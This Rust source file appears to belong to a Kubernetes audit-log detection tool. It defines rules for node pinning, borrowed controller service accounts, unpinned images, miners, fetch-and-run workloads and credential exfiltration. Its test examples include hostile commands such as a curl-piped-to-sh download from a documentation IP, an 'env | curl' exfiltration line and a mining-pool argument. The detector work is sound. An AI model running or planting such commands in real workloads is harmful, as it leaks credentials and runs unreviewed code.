//! What is deployed, on which node and as whom: chosen nodes, borrowed identities, images and commands that give
//! an attack away.
//!
//! Where it is deployed, and what it pretends to be, is `disguise.rs`'; containers that are slipped in are `sidecars.rs`'.

use airside_k8s::fields::text;
use airside_types::attack::technique;
use airside_types::{Severity, Source, Tactic};

use super::super::body::at;
use super::super::pod_spec::{self, POD_WRITERS, TEMPLATES};
use super::super::request::Request;
use super::credentials::holds_more;
use super::hands::Hands;
use super::judged::{CONTROL_PLANE, IMAGE, judged, wrote};
use super::{CREATE, Definition, Ended, Firing, On, WRITE};
use crate::command::Command;
use crate::rule::{Examples, LIKELY, PLAUSIBLE, Rule, SURE, WEAK};

/// The rule about images that are named without their digest.
pub(super) const NO_DIGEST: &str = "AUD-R50-digest";

pub(super) static RULES: &[Definition] = &[
    Definition {
        rule: Rule {
            id: "AUD-R48",
            version: 2,
            title: "Pod put onto a chosen node",
            why: "A pod that names its node passes the scheduler by, and the taints that keep others away from that node.",
            next: "Which node it is and what else runs there; if it is of the control plane, what the pod did beside the API server's and etcd's keys.",
            severity: Severity::Low,
            confidence: PLAUSIBLE,
            tactic: Tactic::PrivilegeEscalation,
            techniques: &[technique("T1611"), technique("T1610")],
            equivalents: &[],
            source: Source::Audit,
            examples: Some(Examples {
                fires: r#"{"verb":"create","user":{"username":"dana"},"objectRef":{"resource":"pods","namespace":"shop","name":"p"},"requestObject":{"spec":{"nodeName":"control-plane-1"}},"responseStatus":{"code":201}}"#,
                quiet: r#"{"verb":"create","user":{"username":"system:node:node-1"},"userAgent":"kubelet/v1.36.2","objectRef":{"resource":"pods","namespace":"kube-system","name":"etcd-node-1"},"requestObject":{"metadata":{"annotations":{"kubernetes.io/config.mirror":"x"}},"spec":{"nodeName":"node-1"}},"responseStatus":{"code":201}}"#,
            }),
        },
        on: On::Workloads(WRITE, POD_WRITERS),
        ended: Ended::Done,
        when: chosen_node,
    },
    Definition {
        rule: Rule {
            id: "AUD-R48-control-plane",
            version: 1,
            title: "Pods let onto the control plane's nodes",
            why: "Beside the API server lie its keys and those of etcd: a way out of a container is a way into the cluster there.",
            next: "Which node it is and what else runs there; if it is of the control plane, what the pod did beside the API server's and etcd's keys.",
            severity: Severity::Low,
            confidence: PLAUSIBLE,
            tactic: Tactic::PrivilegeEscalation,
            techniques: &[technique("T1611"), technique("T1610")],
            equivalents: &[],
            source: Source::Audit,
            examples: Some(Examples {
                fires: r#"{"verb":"create","user":{"username":"dana"},"objectRef":{"resource":"deployments","apiGroup":"apps","namespace":"shop","name":"web"},"requestObject":{"spec":{"template":{"spec":{"tolerations":[{"key":"node-role.kubernetes.io/control-plane","operator":"Exists"}]}}}},"responseStatus":{"code":201}}"#,
                quiet: r#"{"verb":"create","user":{"username":"dana"},"objectRef":{"resource":"deployments","apiGroup":"apps","namespace":"shop","name":"web"},"requestObject":{"spec":{"template":{"spec":{"tolerations":[{"key":"example.net/gpu","operator":"Exists"}]}}}},"responseStatus":{"code":201}}"#,
            }),
        },
        on: On::Workloads(WRITE, POD_WRITERS),
        ended: Ended::Done,
        when: control_plane,
    },
    Definition {
        rule: Rule {
            id: "AUD-R48-binding",
            version: 1,
            title: "Pod bound to a node past the scheduler",
            why: "Whoever binds a pod chooses its node, whatever its taints say.",
            next: "Whether the identity is a scheduler of yours, which node was chosen and what else runs there.",
            severity: Severity::Low,
            confidence: PLAUSIBLE,
            tactic: Tactic::PrivilegeEscalation,
            techniques: &[technique("T1611"), technique("T1610")],
            equivalents: &[],
            source: Source::Audit,
            examples: Some(Examples {
                fires: r#"{"verb":"create","user":{"username":"dana"},"objectRef":{"resource":"pods","namespace":"shop","name":"p","subresource":"binding"},"requestObject":{"target":{"kind":"Node","name":"control-plane-1"}},"responseStatus":{"code":201}}"#,
                quiet: r#"{"verb":"create","user":{"username":"system:kube-scheduler"},"userAgent":"kube-scheduler/v1.36.2","objectRef":{"resource":"pods","namespace":"shop","name":"p","subresource":"binding"},"requestObject":{"target":{"kind":"Node","name":"n1"}},"responseStatus":{"code":201}}"#,
            }),
        },
        on: On::Resources(CREATE, &["pods/binding", "bindings"]),
        ended: Ended::Done,
        when: binding,
    },
    Definition {
        rule: Rule {
            id: "AUD-R49",
            version: 3,
            title: "Controller's service account given to a pod",
            why: "The pod gets the rights of a controller of the cluster, or of a platform that can do nearly as much.",
            next: "What the service account did since, from the pod's address above all; who else can write pods in its namespace.",
            severity: Severity::High,
            confidence: SURE,
            tactic: Tactic::PrivilegeEscalation,
            techniques: &[technique("T1078.001"), technique("T1610")],
            equivalents: &[
                "elastic:Kubernetes Suspicious Assignment of Controller Service Account",
            ],
            source: Source::Audit,
            examples: Some(Examples {
                fires: r#"{"verb":"create","user":{"username":"dana"},"objectRef":{"resource":"pods","namespace":"kube-system","name":"p"},"requestObject":{"spec":{"serviceAccountName":"clusterrole-aggregation-controller"}},"responseStatus":{"code":201}}"#,
                quiet: r#"{"verb":"create","user":{"username":"dana"},"objectRef":{"resource":"pods","namespace":"shop","name":"p"},"requestObject":{"spec":{"serviceAccountName":"web"}},"responseStatus":{"code":201}}"#,
            }),
        },
        on: On::Workloads(WRITE, POD_WRITERS),
        ended: Ended::Done,
        when: controller_account,
    },
    Definition {
        rule: Rule {
            id: "AUD-R50-hand",
            version: 2,
            title: "Image of a workload changed by hand",
            why: "Pipelines bring new images; one that a person sets has passed no review and stands in no repository.",
            next: "Where the image comes from, what differs from the one before, and whether the pipeline that owns the workload knows of it.",
            severity: Severity::Low,
            confidence: WEAK,
            tactic: Tactic::Persistence,
            techniques: &[technique("T1525"), technique("T1610")],
            equivalents: &[],
            source: Source::Audit,
            examples: Some(Examples {
                fires: r#"{"verb":"patch","user":{"username":"dana"},"userAgent":"kubectl/v1.33.1","objectRef":{"resource":"deployments","apiGroup":"apps","namespace":"shop","name":"web"},"requestObject":{"spec":{"template":{"spec":{"containers":[{"name":"web","image":"example.net/web:2"}]}}}},"responseStatus":{"code":200}}"#,
                quiet: r#"{"verb":"patch","user":{"username":"ci"},"userAgent":"Helm/3.16.2","objectRef":{"resource":"deployments","apiGroup":"apps","namespace":"shop","name":"web"},"requestObject":{"spec":{"template":{"spec":{"containers":[{"name":"web","image":"shop/web:2"}]}}}},"responseStatus":{"code":200}}"#,
            }),
        },
        on: On::Workloads(&["patch"], TEMPLATES),
        ended: Ended::Done,
        when: image_by_hand,
    },
    Definition {
        rule: Rule {
            id: NO_DIGEST,
            version: 1,
            title: "Image deployed that may change",
            why: "A tag is moved by whoever may push: what runs tomorrow is decided in the registry, not here.",
            next: "Which digest runs now, and whether the tag was moved since.",
            severity: Severity::Info,
            confidence: WEAK,
            tactic: Tactic::Execution,
            techniques: &[technique("T1610"), technique("T1204.003")],
            equivalents: &[],
            source: Source::Audit,
            examples: Some(Examples {
                fires: r#"{"verb":"create","user":{"username":"dana"},"objectRef":{"resource":"pods","namespace":"shop","name":"p"},"requestObject":{"spec":{"containers":[{"name":"a","image":"shop/web:latest"}]}},"responseStatus":{"code":201}}"#,
                quiet: r#"{"verb":"create","user":{"username":"dana"},"objectRef":{"resource":"pods","namespace":"shop","name":"p"},"requestObject":{"spec":{"containers":[{"name":"a","image":"shop/web@sha256:0000000000000000000000000000000000000000000000000000000000000000"}]}},"responseStatus":{"code":201}}"#,
            }),
        },
        on: On::Workloads(WRITE, POD_WRITERS),
        ended: Ended::Done,
        when: moving_image,
    },
    Definition {
        rule: Rule {
            id: "AUD-R82",
            version: 2,
            title: "Miner deployed",
            why: "The command or image is a cryptocurrency miner's: somebody else's work on your machines.",
            next: "Who wrote the workload and how they came by that right; which nodes are busy with it; then remove it with what brought it.",
            severity: Severity::High,
            confidence: LIKELY,
            tactic: Tactic::Impact,
            techniques: &[technique("T1496.001")],
            equivalents: &[],
            source: Source::Audit,
            examples: Some(Examples {
                fires: r#"{"verb":"create","user":{"username":"dana"},"objectRef":{"resource":"jobs","apiGroup":"batch","namespace":"shop","name":"j"},"requestObject":{"spec":{"template":{"spec":{"containers":[{"name":"a","args":["-o","stratum+tcp://pool.example.net:3333"]}]}}}},"responseStatus":{"code":201}}"#,
                quiet: r#"{"verb":"create","user":{"username":"dana"},"objectRef":{"resource":"jobs","apiGroup":"batch","namespace":"shop","name":"j"},"requestObject":{"spec":{"template":{"spec":{"containers":[{"name":"a","args":["--pool","db"]}]}}}},"responseStatus":{"code":201}}"#,
            }),
        },
        on: On::Workloads(WRITE, POD_WRITERS),
        ended: Ended::Done,
        when: miner,
    },
    Definition {
        rule: Rule {
            id: "AUD-R95",
            version: 2,
            title: "Workload that runs what it fetches",
            why: "What runs is decided by a server outside, at each start: no image scan has seen it.",
            next: "What the address serves now, which connections the pods made (runtime detections), and who wrote the workload.",
            severity: Severity::High,
            confidence: LIKELY,
            tactic: Tactic::Execution,
            techniques: &[technique("T1105"), technique("T1610")],
            equivalents: &[],
            source: Source::Audit,
            examples: Some(Examples {
                fires: r#"{"verb":"create","user":{"username":"dana"},"objectRef":{"resource":"cronjobs","apiGroup":"batch","namespace":"shop","name":"c"},"requestObject":{"spec":{"jobTemplate":{"spec":{"template":{"spec":{"containers":[{"name":"a","command":["sh","-c","curl -s http://198.51.100.7/w.sh | sh"]}]}}}}}},"responseStatus":{"code":201}}"#,
                quiet: r#"{"verb":"create","user":{"username":"dana"},"objectRef":{"resource":"cronjobs","apiGroup":"batch","namespace":"shop","name":"c"},"requestObject":{"spec":{"jobTemplate":{"spec":{"template":{"spec":{"containers":[{"name":"a","command":["sh","-c","curl -s http://web/ping | grep ok"]}]}}}}}},"responseStatus":{"code":201}}"#,
            }),
        },
        on: On::Workloads(WRITE, POD_WRITERS),
        ended: Ended::Done,
        when: fetches,
    },
    Definition {
        rule: Rule {
            id: "AUD-R95-out",
            version: 1,
            title: "Workload that sends credentials out",
            why: "A token, the environment or a node's cloud credentials leave with the first pod, and with each one after it.",
            next: "To whom the address belongs, and what the pods sent there (runtime detections); make what they could read invalid.",
            severity: Severity::High,
            confidence: LIKELY,
            tactic: Tactic::Exfiltration,
            techniques: &[technique("T1048"), technique("T1552")],
            equivalents: &[],
            source: Source::Audit,
            examples: Some(Examples {
                fires: r#"{"verb":"create","user":{"username":"dana"},"objectRef":{"resource":"cronjobs","apiGroup":"batch","namespace":"shop","name":"c"},"requestObject":{"spec":{"jobTemplate":{"spec":{"template":{"spec":{"containers":[{"name":"a","command":["sh","-c","env | curl -d @- https://198.51.100.7"]}]}}}}}},"responseStatus":{"code":201}}"#,
                quiet: r#"{"verb":"create","user":{"username":"dana"},"objectRef":{"resource":"cronjobs","apiGroup":"batch","namespace":"shop","name":"c"},"requestObject":{"spec":{"jobTemplate":{"spec":{"template":{"spec":{"containers":[{"name":"a","command":["sh","-c","env | sort; curl https://198.51.100.7"]}]}}}}}},"responseStatus":{"code":201}}"#,
            }),
        },
        on: On::Workloads(WRITE, POD_WRITERS),
        ended: Ended::Done,
        when: sends_out,
    },
];

/// Service accounts of kube-controller-manager's controllers, which no pod runs as.
const CONTROLLER_ACCOUNTS: [&str; 22] = [
    "attachdetach-controller",
    "certificate-controller",
    "clusterrole-aggregation-controller",
    "cronjob-controller",
    "daemon-set-controller",
    "deployment-controller",
    "disruption-controller",
    "endpoint-controller",
    "endpointslice-controller",
    "expand-controller",
    "generic-garbage-collector",
    "horizontal-pod-autoscaler",
    "job-controller",
    "namespace-controller",
    "node-controller",
    "persistent-volume-binder",
    "pod-garbage-collector",
    "replicaset-controller",
    "replication-controller",
    "resourcequota-controller",
    "service-account-controller",
    "statefulset-controller",
];

fn chosen_node(request: &Request<'_>) -> Option<Firing> {
    if !pod_spec::mentions(request, &["nodeName"]) || request.is_by_trusted_system() {
        return None;
    }
    let pods = pod_spec::pods(request);
    let (pod, node) = pods.iter().find_map(|pod| Some((pod, text(pod.fields, "nodeName")?)))?;
    let firing = Firing::new(format!("{} for node {node}", wrote(request)));
    Some(firing.with(&format!("requestObject.{}", pod.path_of("nodeName")), node))
}

/// Agents of every node are expected there.
fn control_plane(request: &Request<'_>) -> Option<Firing> {
    let is_agent = request.resource() == "daemonsets";
    judged(request, CONTROL_PLANE, if is_agent { Severity::Info } else { Severity::Low })
}

/// Schedulers of one's own run as service accounts.
fn binding(request: &Request<'_>) -> Option<Firing> {
    let node = super::super::body::text(at(request.body(), &["target"]), "name");
    let by_program = request.actor().is_workload() && !request.is_workload_by_hand();
    let severity = if by_program { Severity::Info } else { Severity::Low };
    (!request.is_by_trusted_system()).then(|| {
        let pod = format!("{}/{}", request.namespace(), request.name());
        Firing::new(format!("bound Pod {pod} to node {node}"))
            .at(severity)
            .with("requestObject.target.name", node)
    })
}

fn controller_account(request: &Request<'_>) -> Option<Firing> {
    let namespace = request.namespace();
    let is_cluster = namespace == "kube-system";
    // Platforms are put up by programs, and their accounts can do nearly as much.
    let is_run = matches!(request.resource(), "pods" | "jobs" | "cronjobs");
    let is_platform = is_run && holds_more(request);
    if !is_cluster && !is_platform || request.is_by_trusted_system() {
        return None;
    }
    let severity = match is_cluster {
        true => Severity::High,
        false => Hands::RARE.unless_usual(request)?,
    };
    let counts = |account: &str| match is_cluster {
        true => CONTROLLER_ACCOUNTS.contains(&account),
        false => !matches!(account, "" | "default"),
    };
    let pods = pod_spec::pods(request);
    let pod = pods.iter().find(|pod| counts(pod.service_account()))?;
    let account = pod.service_account();
    let firing =
        Firing::new(format!("{} with the service account {account}", wrote(request))).at(severity);
    Some(firing.with(&format!("requestObject.{}", pod.path_of("serviceAccountName")), account))
}

fn image_by_hand(request: &Request<'_>) -> Option<Firing> {
    if !request.client().is_by_hand() {
        return None;
    }
    let pods = pod_spec::pods(request);
    let mut containers = pods.iter().flat_map(|pod| &pod.containers);
    let (container, image) = containers.find_map(|it| Some((it, it.image()?)))?;
    let by_workload = request.actor().is_workload();
    Some(
        Firing::new(format!("{}: image {image}", wrote(request)))
            .at(if by_workload { Severity::Medium } else { Severity::Low })
            .with(&format!("requestObject.{}", container.path.key("image")), image),
    )
}

fn moving_image(request: &Request<'_>) -> Option<Firing> {
    let counts = !request.is_by_trusted_system();
    counts.then(|| judged(request, IMAGE, Severity::Info))?
}

fn miner(request: &Request<'_>) -> Option<Firing> {
    commands(request, "a miner", |image, command| {
        command.is_miner() || Command::new(image).is_miner()
    })
}

fn fetches(request: &Request<'_>) -> Option<Firing> {
    commands(request, "it runs what it fetches", |_, command| {
        command.runs_what_it_fetches() || command.is_reverse_shell()
    })
}

fn sends_out(request: &Request<'_>) -> Option<Firing> {
    commands(request, "it sends credentials out", |_, command| command.sends_credentials_out())
}

/// Fires for containers whose image and command answer a question with yes.
fn commands(
    request: &Request<'_>,
    what: &str,
    question: impl Fn(&str, &Command) -> bool,
) -> Option<Firing> {
    let found = request.programs().iter().find(|it| question(&it.image, &it.command))?;
    let firing = Firing::new(format!("{}: {what}", wrote(request)))
        .with(&format!("requestObject.{}", found.field), &found.line)
        .with(&format!("requestObject.{}.image", found.path), &found.image);
    // The template was told when it was written.
    let by_controller = request.actor().is_workload_controller();
    Some(if by_controller { firing.at(Severity::Low) } else { firing })
}
